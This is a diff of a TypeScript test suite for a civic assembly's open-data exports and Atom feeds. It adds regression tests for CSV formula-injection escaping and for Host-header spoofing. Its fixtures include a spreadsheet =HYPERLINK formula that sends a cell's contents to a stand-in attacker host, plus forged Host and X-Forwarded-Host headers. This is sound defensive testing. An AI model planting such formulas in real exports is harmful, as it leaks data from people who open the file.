@@ -23,6 +23,12 @@ import {
 
 type Row = Record<string, unknown>;
 
+/** Text a spreadsheet would evaluate, as a motion's title and as an imported delegate's name. */
+const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?d="&C2,"Ver anexo")';
+const FORMULA_NAME = '=1+1';
+/** What the CSV carries for a text cell: a leading `'` before a formula's first character. */
+const asCsvText = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
+
 /** Collects a binary body (superagent only buffers text and JSON by itself). */
 function binary(res: NodeJS.ReadableStream, done: (error: Error | null, body: Buffer) => void): void {
   const chunks: Buffer[] = [];
@@ -83,7 +89,9 @@ describe('Open data: datasets, the complete dump and the Atom feeds', () => {
   let adoptedVote: string;
   let rejectedVote: string;
   let openVote: string;
-  let host: string;
+  /** Links are built on PUBLIC_URL; the requests below claim another host, which must not matter. */
+  const publicUrl = 'https://asamblea.example.pe';
+  const claimed = { Host: 'evil.example', 'X-Forwarded-Host': 'evil.example', 'X-Forwarded-Proto': 'http' };
 
   const cast = (delegate: TestUser, voteId: string, choice: 'yes' | 'no' | 'abstain') =>
     api.http().post(`/api/votes/${voteId}/ballots`).set(bearer(delegate)).send({ choice }).expect(200);
@@ -107,9 +115,7 @@ describe('Open data: datasets, the complete dump and the Atom feeds', () => {
   };
 
   beforeAll(async () => {
-    api = await startTestApi({ COSPONSOR_THRESHOLD: '0' });
-    const server = await api.app.listen(0, '127.0.0.1');
-    host = `127.0.0.1:${(server.address() as { port: number }).port}`;
+    api = await startTestApi({ COSPONSOR_THRESHOLD: '0', PUBLIC_URL: `${publicUrl}/`, TRUST_PROXY: 'true' });
     moderator = await userWithRoles(api, ['moderator']);
     author = await seatDelegate(api, { fullName: 'Ñusta Quispe Huamán', constituencyCode: '0603' });
     delegates = await seatDelegatesInBulk(api, 6);
@@ -155,6 +161,13 @@ describe('Open data: datasets, the complete dump and the Atom feeds', () => {
     openVote = await voteOn(pending.id, [
       [delegates[0]!, 'no'],
       [delegates[4]!, 'yes'],
+    ]);
+
+    // Formula-looking text (filed, so public; the name as an import could have written it).
+    await admittedMotion(api, delegates[2]!, moderator, { title: FORMULA_TITLE });
+    await api.dataSource.query('UPDATE delegates SET full_name = $1 WHERE id = $2', [
+      FORMULA_NAME,
+      delegates[2]!.delegateId,
     ]);
 
     // A draft is never public.
@@ -238,7 +251,8 @@ describe('Open data: datasets, the complete dump and the Atom feeds', () => {
         for (const column of DATASETS[name].columns) {
           const value = row[column.name];
           const cell = rows[i]![column.name];
-          expect(cell).toBe(value === null ? '' : Array.isArray(value) ? value.join(';') : String(value));
+          const text = value === null ? '' : Array.isArray(value) ? value.join(';') : String(value);
+          expect(cell).toBe(column.type === 'integer' ? text : asCsvText(text));
         }
       }
     }
@@ -250,6 +264,7 @@ describe('Open data: datasets, the complete dump and the Atom feeds', () => {
       'Ambulancias para Celendín',
       'Cierre del puesto de salud de Sócota',
       'Internet en las escuelas rurales de Chota',
+      FORMULA_TITLE,
     ]);
     const listed = await api.http().get('/api/motions').expect(200);
     expect(motions.count).toBe(listed.body.items.length);
@@ -340,6 +355,32 @@ describe('Open data: datasets, the complete dump and the Atom feeds', () => {
     expect(attendanceRes.text).toContain('Sesión ordinaria: salud en Celendín y Jaén');
   });
 
+  it('writes formula-looking text as text in every CSV, and unchanged in the JSON', async () => {
+    const { res: motionsRes, rows: motionRows } = await csv('motions');
+    expect(motionRows.map((m) => m.title)).toContain(`'${FORMULA_TITLE}`);
+    expect(motionRows.find((m) => m.title === `'${FORMULA_TITLE}`)).toMatchObject({
+      author_name: `'${FORMULA_NAME}`,
+    });
+    // No cell of any CSV starts with a formula character.
+    for (const name of DATASET_NAMES) {
+      const { rows } = await csv(name);
+      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]/);
+    }
+    expect(motionsRes.text).not.toMatch(/(^|,|\r\n)"?=HYPERLINK/);
+    const { rows: ballotRows } = await csv('ballots');
+    const named = ballotRows.filter((b) => b.delegate_id === delegates[2]!.delegateId);
+    expect(named.length).toBe(2);
+    expect(named.every((b) => b.delegate_name === `'${FORMULA_NAME}`)).toBe(true);
+    const { rows: attendanceRows } = await csv('attendance');
+    expect(attendanceRows.find((a) => a.delegate_id === delegates[2]!.delegateId)).toMatchObject({
+      delegate_name: `'${FORMULA_NAME}`,
+    });
+    const motions = await json('motions');
+    expect(motions.rows.find((m: Row) => m.title === FORMULA_TITLE)).toMatchObject({
+      author_name: FORMULA_NAME,
+    });
+  });
+
   it('zips every dataset from one snapshot with a README of every field and a manifest', async () => {
     const res = await api
       .http()
@@ -385,29 +426,43 @@ describe('Open data: datasets, the complete dump and the Atom feeds', () => {
     expect(compliance[0]).toMatchObject({ status: 'overdue' });
     expect(strFromU8(files['attendance.csv']!)).toContain('Ñusta Quispe Huamán');
     expect(strFromU8(files['ballots.csv']!)).not.toContain(openVote);
+    // Formulas are text in the dump's CSVs too, and its README says so.
+    const dumpMotions = parse(strFromU8(files['motions.csv']!), { columns: true }) as Row[];
+    expect(dumpMotions.map((m) => m.title)).toContain(`'${FORMULA_TITLE}`);
+    for (const name of ['ballots', 'attendance']) {
+      const named = (parse(strFromU8(files[`${name}.csv`]!), { columns: true }) as Row[]).filter(
+        (r) => r.delegate_id === delegates[2]!.delegateId,
+      );
+      expect(named.length).toBeGreaterThan(0);
+      expect(named.every((r) => r.delegate_name === `'${FORMULA_NAME}`)).toBe(true);
+    }
+    expect(readme).toContain("prefixed with an apostrophe `'`");
   });
 
   it('publishes well-formed Atom feeds of resolutions and of compliance changes', async () => {
-    const res = await api.http().get('/api/feeds/resolutions.atom').set('Host', host).expect(200);
+    const res = await api.http().get('/api/feeds/resolutions.atom').set(claimed).expect(200);
     expect(res.headers['content-type']).toBe('application/atom+xml; charset=utf-8');
     const xml = res.text;
     expect(wellFormedElements(xml)[0]).toBe('feed');
     expect(xml).toContain('<feed xmlns="http://www.w3.org/2005/Atom">');
-    expect(xml).toContain(`<link rel="self" href="http://${host}/api/feeds/resolutions.atom"/>`);
+    expect(xml).toContain(`<link rel="self" href="${publicUrl}/api/feeds/resolutions.atom"/>`);
+    expect(xml).not.toContain('evil.example');
     const [resolution, ...others] = entries(xml);
     expect(others).toEqual([]);
     expect(cdataOf(resolution!, 'title')).toBe('RES-APR-2026-0001 · Ambulancias para Celendín');
-    expect(resolution).toContain(`<link href="http://${host}/api/resolutions/RES-APR-2026-0001"/>`);
-    expect(resolution).toContain('<id>tag:127.0.0.1,2026:asamblea/resolution/RES-APR-2026-0001</id>');
+    expect(resolution).toContain(`<link href="${publicUrl}/api/resolutions/RES-APR-2026-0001"/>`);
+    expect(resolution).toContain(
+      '<id>tag:asamblea.example.pe,2026:asamblea/resolution/RES-APR-2026-0001</id>',
+    );
     const summary = cdataOf(resolution!, 'summary')!;
     expect(summary).toContain('SOC-SALUD-O4');
     expect(summary).toContain('DIRESA');
     expect(summary).toContain((await json('resolutions')).rows[0].digest);
     // Ids and the feed's own date are stable from one request to the next.
-    const again = await api.http().get('/api/feeds/resolutions.atom').set('Host', host).expect(200);
+    const again = await api.http().get('/api/feeds/resolutions.atom').set(claimed).expect(200);
     expect(again.text).toBe(xml);
 
-    const compliance = await api.http().get('/api/feeds/compliance.atom').set('Host', host).expect(200);
+    const compliance = await api.http().get('/api/feeds/compliance.atom').set(claimed).expect(200);
     expect(compliance.headers['content-type']).toBe('application/atom+xml; charset=utf-8');
     wellFormedElements(compliance.text);
     const [overdue, reported, ...rest] = entries(compliance.text);
@@ -415,8 +470,9 @@ describe('Open data: datasets, the complete dump and the Atom feeds', () => {
     expect(cdataOf(overdue!, 'title')).toBe('RES-APR-2026-0001 · DIRESA · vencido (overdue)');
     expect(overdue).toContain('<category term="overdue"/>');
     expect(cdataOf(overdue!, 'summary')).toContain('2026-01-31');
-    expect(overdue).toContain(`<link href="http://${host}/api/resolutions/RES-APR-2026-0001/compliance"/>`);
-    expect(overdue).toMatch(/<id>tag:127\.0\.0\.1,2026:asamblea\/ledger\/\d+<\/id>/);
+    expect(overdue).toContain(`<link href="${publicUrl}/api/resolutions/RES-APR-2026-0001/compliance"/>`);
+    expect(overdue).toMatch(/<id>tag:asamblea\.example\.pe,2026:asamblea\/ledger\/\d+<\/id>/);
+    expect(compliance.text).not.toContain('evil.example');
     expect(cdataOf(reported!, 'title')).toBe('RES-APR-2026-0001 · DIRESA · en ejecución (in_progress)');
     // The report's text is escaped HTML, never markup.
     const reportSummary = cdataOf(reported!, 'summary')!;
